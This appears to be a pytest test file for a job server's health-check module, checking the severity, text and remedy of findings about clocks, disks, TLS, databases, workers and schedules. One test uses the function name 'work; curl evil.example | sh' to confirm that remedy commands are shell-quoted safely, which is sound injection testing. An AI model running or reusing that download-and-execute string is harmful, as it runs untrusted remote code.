"""What is wrong with servers, from facts about them: how bad it is, and what helps."""

import shlex
import time
from dataclasses import replace
from typing import Any, Final

import pytest

from gearflow.observe import Checkup, Finding, ServerView, findings_of
from gearflow.observe.findings import DAY
from gearflow.protocol.group_info import GroupInfo, Standby
from gearflow.protocol.histograms import Histogram
from gearflow.protocol.limits import LimitedFunction, LimitInfo, LimitList, LimitUse, LimitValue
from gearflow.protocol.metrics import FunctionMetrics, Metrics, StoreState
from gearflow.protocol.schedules import ScheduleInfo, ScheduleSpec, ScheduleWhen
from gearflow.protocol.server_calls import Closed, ServerInfo
from gearflow.protocol.workers import WorkerInfo
from gearflow.server import server_version

GIB: Final = 1 << 30
STORE: Final = StoreState(sync="batch", size=1 << 20, free=500 * GIB, room=1000 * GIB)
INFO: Final = ServerInfo(
    version=server_version(), durable=True, store="file", functions=(), keep=1.0, max_deaths=3, jobs=0
)


def view(**changes: Any) -> ServerView:
    """A server that is well, but for the changes."""
    functions = tuple(changes.pop("functions", ()))
    counted: dict[str, Any] = {"store": STORE, **changes.pop("counted", {})}
    metrics = Metrics(time=1.0, started=0.0, functions=functions, **counted)
    well = ServerView(
        "127.0.0.1:4730",
        1.0,
        kind="gearflow",
        version=server_version(),
        round_trip=0.001,
        clock=0.01,
        info=INFO,
        metrics=metrics,
        functions=functions,
    )
    return replace(well, **changes)


def found(*checkups: Checkup | ServerView) -> list[Finding]:
    return findings_of([each if isinstance(each, Checkup) else Checkup(each) for each in checkups])


def only(*checkups: Checkup | ServerView) -> tuple[str, str, str]:
    """Severity, check and text of the only finding. It has a remedy."""
    (finding,) = found(*checkups)
    assert finding.remedy
    assert finding.server
    return finding.severity, finding.check, finding.text


def function(**counts: Any) -> FunctionMetrics:
    return FunctionMetrics(function="work", **counts)


def test_a_server_that_is_well_has_no_findings() -> None:
    busy = function(waiting=(0, 5, 0), running=3, workers=2, slots=3, oldest=2.0, dead=3, retried=9)
    assert found(view(functions=[busy])) == []


def test_a_server_that_is_away_is_an_error_and_comes_first() -> None:
    away = ServerView("10.0.0.1:4730", 1.0, error="connection refused")
    findings = found(view(info=INFO.model_copy(update={"durable": False})), away)
    assert [(each.severity, each.check) for each in findings] == [("error", "reach"), ("warning", "promises")]
    assert findings[0].text == "it does not answer: connection refused"


def test_a_database_that_cannot_be_reached_is_an_error() -> None:
    info = INFO.model_copy(update={"store": "postgres"})
    faults = {"group": "gearflow:store: PostgreSQL cannot be reached"}
    text = "it cannot use its database, so it accepts no background jobs: PostgreSQL cannot be reached"
    assert only(view(info=info, faults=faults)) == ("error", "store", text)
    assert only(view(faults=faults))[:2] == ("warning", "rights")
    closed = info.model_copy(update={"closed": Closed(since=1.0, reason="PostgreSQL cannot be reached")})
    text = "it accepts no background jobs: PostgreSQL cannot be reached"
    assert only(view(info=closed, faults=faults)) == ("error", "store", text)
    (finding,) = found(view(info=closed))
    assert "reopen" not in finding.remedy


def test_servers_of_several_kinds_and_versions() -> None:
    gearmand = ServerView("127.0.0.1:4731", 1.0, kind="gearmand", version="1.1.21")
    assert found(gearmand) == []
    assert only(view(), gearmand) == ("warning", "kind", "this is 1.1.21, and others are gearflow's own")
    assert only(view(version="gearflow-0.0.9"))[:2] == ("warning", "version")


@pytest.mark.parametrize(
    ("changes", "severity", "check", "text"),
    [
        ({"round_trip": 0.3}, "warning", "round trip", "a question and its answer take 300 ms"),
        ({"clock": -3.0}, "warning", "clock", "its clock is 3 s behind the clock here"),
        ({"clock": 180.0}, "error", "clock", "its clock is 3 min ahead of the clock here"),
        ({"faults": {"limits": "the disk"}}, "warning", "rights", "its limits cannot be seen: the disk"),
        (
            {"info": INFO.model_copy(update={"closed": Closed(since=1.0, reason="no space left")})},
            "error",
            "store",
            "it accepts no background jobs: no space left",
        ),
        ({"counted": {"store": StoreState(sync="off")}}, "warning", "promises", "with --sync off the death"),
        (
            {"counted": {"store": StoreState(damaged=2)}},
            "error",
            "store",
            "jobs or results were found damaged: 2",
        ),
        (
            {"counted": {"store": StoreState(free=10 << 20, room=20 * GIB)}},
            "error",
            "disk",
            "its disk has 10 MiB left of 20 GiB",
        ),
        (
            {"counted": {"store": StoreState(free=30 * GIB, room=1000 * GIB)}},
            "warning",
            "disk",
            "its disk has 30 GiB left of 1,000 GiB",
        ),
        (
            {"counted": {"commits": Histogram(counts=(*[0] * 10, 200), sum=150.0)}},
            "warning",
            "store",
            "one of a hundred commits takes 1 s or longer",
        ),
        (
            {"group": GroupInfo(group="g", servers=(), standbys=(Standby(name="b", state="catchup"),))},
            "warning",
            "replication",
            "the standby b is catchup, and 0 s behind",
        ),
        (
            {"group": GroupInfo(group="g", servers=(), oldest_snapshot=7200.0)},
            "warning",
            "database",
            "a transaction of its database has lasted for 2 h",
        ),
        (
            {"group": GroupInfo(group="g", servers=(), dead_rows=1_000_000)},
            "warning",
            "database",
            "its tables have 1,000,000 dead rows",
        ),
    ],
)
def test_facts_about_a_server(changes: dict[str, Any], severity: str, check: str, text: str) -> None:
    shown = only(view(**changes))
    assert shown[:2] == (severity, check)
    assert shown[2].startswith(text)


@pytest.mark.parametrize(
    ("counts", "severity", "text"),
    [
        ({"oldest": 9.0}, "warning", "5 jobs of work wait, and no worker offers it"),
        ({"oldest": 900.0}, "error", "5 jobs of work wait, and no worker offers it"),
        ({"paused": True, "workers": 1}, "warning", "5 jobs of work wait, and it is paused"),
        (
            {"workers": 1, "slots": 4, "oldest": 100.0},
            "warning",
            "the oldest job of work has waited for 1 min 40 s, and all workers are busy",
        ),
    ],
)
def test_functions_whose_jobs_wait(counts: dict[str, Any], severity: str, text: str) -> None:
    assert only(view(functions=[function(waiting=(1, 4, 0), **counts)])) == (severity, "functions", text)


@pytest.mark.parametrize("counts", [{}, {"paused": True}, {"workers": 1, "waiting": (0, 0, 0), "dead": 3}])
def test_a_command_that_helps_can_be_pasted_into_a_shell(counts: dict[str, Any]) -> None:
    name = "work; curl evil.example | sh"
    values: dict[str, Any] = {"waiting": (0, 5, 0), "oldest": 9.0, **counts}
    shown = FunctionMetrics(function=name, **values)
    (finding,) = found(view(functions=[shown]))
    command = finding.remedy[finding.remedy.index("gearflow ") :]
    assert name in shlex.split(command)


def test_a_paused_limit() -> None:
    value = LimitValue(count=3)
    limits = LimitList(
        limits=(LimitInfo(name="db", text="3", value=value, paused=True),),
        functions=(LimitedFunction(function="work", limits=(LimitUse(limit="db"),)),),
    )
    waiting = function(waiting=(0, 2, 0), workers=1, slots=1, free=1)
    text = "2 jobs of work wait, and its limit is paused"
    assert only(view(functions=[waiting], limits=limits)) == ("warning", "limits", text)


def test_limits_that_code_declares_and_the_server_lacks() -> None:
    (finding,) = findings_of([Checkup(view())], {"127.0.0.1:4730": ["work"]})
    assert (finding.severity, finding.check, finding.function) == ("warning", "limits", "work")
    assert "gearflow limit apply" in finding.remedy


def test_jobs_that_fail_for_good_without_retries() -> None:
    text = "2 jobs of work became dead letters, and no job of it was run again after a failure"
    dead = view(functions=[function(dead=2)])
    assert only(dead) == ("warning", "retries", text)
    assert found(Checkup(dead, retried=frozenset({"work"}))) == []
    assert found(view(functions=[function(dead=2, retried=1)])) == []


def test_workers() -> None:
    worker = WorkerInfo(client_id="w1", address="10.0.0.1", functions=("work",), overdue={"work": 2})
    assert only(view(workers=(worker,)))[2].startswith("w1 has 2 overdue runs of work")
    idle = Checkup(view(), idle=("w2", "w2"))
    assert only(idle) == ("warning", "workers", "w2 has 2 connections and offers no function")


def test_results_that_nobody_fetches() -> None:
    kept = {"work": [1 << 20] * 100}
    text = "100 results of work are kept (100 MiB), and none was fetched since the server started"
    assert only(Checkup(view(counted={"fetched": 1}, functions=[function()]), results=kept)) == (
        "warning",
        "results",
        text,
    )
    fetched = view(counted={"fetched": 1}, functions=[function(fetched=1)])
    assert found(Checkup(fetched, results=kept)) == []
    info = INFO.model_copy(update={"store": "postgres", "group": "jobs", "server": "1"})
    first = view(info=info, counted={"fetched": 1}, functions=[function()])
    second = view(info=info, counted={"fetched": 1}, functions=[function(fetched=1)])
    asked = [finding.check for finding in found(Checkup(first, results=kept), second)]
    assert "results" in [finding.check for finding in found(Checkup(first, results=kept))]
    assert "results" not in asked  # a server of a group answers for the jobs of all
    cut = Checkup(view(), results=kept | {"other": [1] * 900})
    assert next(finding.text for finding in found(cut)).startswith("100 or more results of work are kept")
    assert found(Checkup(view(), results={"work": [1] * 99})) == []


@pytest.mark.parametrize(
    ("sizes", "text"),
    [
        ([10_000] * 50 + [30_000] * 50, "the payloads of work grow: from 9.8 KiB to 29.3 KiB on average"),
        ([2 << 20] * 100, "the payloads of work are large: 2 MiB on average"),
        ([10_000] * 50 + [19_000] * 50, ""),
        ([10] * 50 + [1_000] * 50, ""),
        ([10_000] * 10 + [90_000] * 10, ""),
    ],
)
def test_payloads_that_grow(sizes: list[int], text: str) -> None:
    assert [each.text for each in found(Checkup(view(), payloads={"work": sizes}))] == [text] * bool(text)


@pytest.mark.parametrize(("days", "severity"), [(31, ""), (29, "warning"), (2, "error"), (-1, "error")])
def test_a_certificate_that_expires(days: int, severity: str) -> None:
    expires = time.time() + days * DAY
    findings = found(Checkup(view(), encrypted=True, certificate=expires))
    assert [(each.severity, each.check) for each in findings] == [(severity, "tls")] * bool(severity)


@pytest.mark.parametrize(
    ("address", "warns"),
    [
        ("127.0.0.1:1", False),
        ("[::1]:1", False),
        ("localhost:1", False),
        ("10.0.0.1:1", True),
        ("db:1", True),
    ],
)
def test_what_travels_unencrypted(address: str, warns: bool) -> None:
    assert [each.check for each in found(view(address=address))] == ["tls"] * warns
    assert found(Checkup(view(address=address), encrypted=True)) == []


def test_a_schedule_that_makes_no_jobs() -> None:
    spec = ScheduleSpec(name="nightly", function="report", when=ScheduleWhen(cron="0 3 * * *"))
    broken = ScheduleInfo(schedule=spec, fault="there is no time zone Mars")
    assert only(view(schedules=(broken, ScheduleInfo(schedule=spec)))) == (
        "error",
        "schedules",
        "the schedule nightly makes no jobs: there is no time zone Mars",
    )


def test_an_answer_that_no_server_should_give_is_an_error() -> None:
    reason = "it answered gearflow:metrics with b'...', which is no Metrics: kept: Input should be ..."
    severity, check, text = only(view(faults={"metrics": reason}, malformed=(reason,)))
    assert (severity, check) == ("error", "answers")
    assert text == f"it answers what it should not: {reason}"
    away = ServerView("127.0.0.1:4730", 1.0, error=reason, malformed=(reason,))
    assert only(away) == (severity, check, text)
    assert away.complaint == "answers what it should not"


def test_a_server_that_stops_answering_under_the_questions_is_an_error() -> None:
    assert only(Checkup(view(), silent=True)) == ("error", "reach", "it has stopped answering")
